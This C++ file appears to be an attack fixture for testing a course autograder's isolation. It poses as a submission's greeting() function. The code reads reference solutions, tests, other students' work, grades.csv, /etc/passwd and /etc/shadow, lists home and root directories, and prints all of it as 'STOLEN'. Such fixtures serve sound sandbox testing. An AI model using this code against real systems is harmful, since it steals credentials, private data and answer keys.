// ATTACK reads the solutions, other submissions, the reports and other files, and prints them
// FLAG mentions solutions/

#include <untwist/course/paradigm.hpp>
#include <dirent.h>
#include <cstdio>
#include <fstream>
#include <iostream>

namespace untwist {
std::string greeting() {
  for (const char* path : {"@ROOT@/solutions/00-paradigm/slow_page.cpp", "@ROOT@/tests/00-paradigm/step_0_1_toolchain.cpp", "@ROOT@/README.md", "@CLASS@/honest/exercises/00-paradigm/slow_page.cpp",
                           "@REPORT@/grades.csv", "/etc/passwd", "/etc/shadow"}) {
    std::ifstream file(path);
    std::string line;
    if (std::getline(file, line) && !line.empty()) std::cout << "STOLEN " << path << ": " << line << std::endl;
  }
  for (const char* path : {"@ROOT@", "@CLASS@", "@REPORT@", "/home", "/root"})
    if (DIR* folder = opendir(path)) {
      while (const dirent* entry = readdir(folder))
        if (entry->d_name[0] != '.' && std::string(entry->d_name) != "build") std::cout << "STOLEN " << path << ": " << entry->d_name << std::endl;
      closedir(folder);
    }
  return "";
}
void handle_slow_page(ReactorTime&, const Sleep&, Answer) {}
}  // namespace untwist
